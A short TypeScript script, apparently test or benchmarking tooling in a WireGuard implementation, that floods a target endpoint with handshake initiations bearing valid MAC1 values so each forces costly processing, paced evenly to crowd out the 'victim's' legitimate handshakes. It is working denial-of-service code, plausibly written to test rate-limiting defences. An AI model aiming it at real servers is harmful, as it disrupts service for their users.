// Floods a WireGuard with initiations whose MAC1 is right, so that each costs it work, from one port:
// `initiation-flood ADDRESS PORT PUBLIC_KEY SECONDS RATE`, the rate a second. Says `flooding` once the first are out, and
// `sent N` at the end.
import { randomBytes } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { macKeysOf, nobleCrypto, writeMac1 } from '@mesh/noise'
import { parseKey } from '@mesh/wireguard/plain'
import { TrainSender } from './train-sender.ts'

const LENGTH = 148
const COUNT = 64
const [, , address = '', port = '', key = '', seconds = '5', rate = '1000'] = process.argv
const sender = new TrainSender(address, Number(port))
const macKeys = macKeysOf(nobleCrypto, parseKey(key) ?? new Uint8Array(32))
for (let i = 0; i < COUNT; i += 1) {
  const message = Uint8Array.from(randomBytes(LENGTH))
  message.set([1, 0, 0, 0])
  message.fill(0, LENGTH - 16)
  writeMac1(nobleCrypto, macKeys, message)
  sender.bytes.set(message, i * LENGTH)
}
let sent = 0
sender.send(COUNT * LENGTH, LENGTH)
console.log('flooding')
const began = Date.now()
for (let spent = 0; spent < Number(seconds) * 1_000; spent = Date.now() - began) {
  const due = Math.ceil((spent / 1_000) * Number(rate))
  // Evenly: between long trains the victim's limit would let another's initiation through.
  while (sent < due) {
    const count = Math.min(COUNT, due - sent)
    sender.send(count * LENGTH, LENGTH)
    sent += count
  }
  await sleep(2)
}
console.log(`sent ${sent}`)
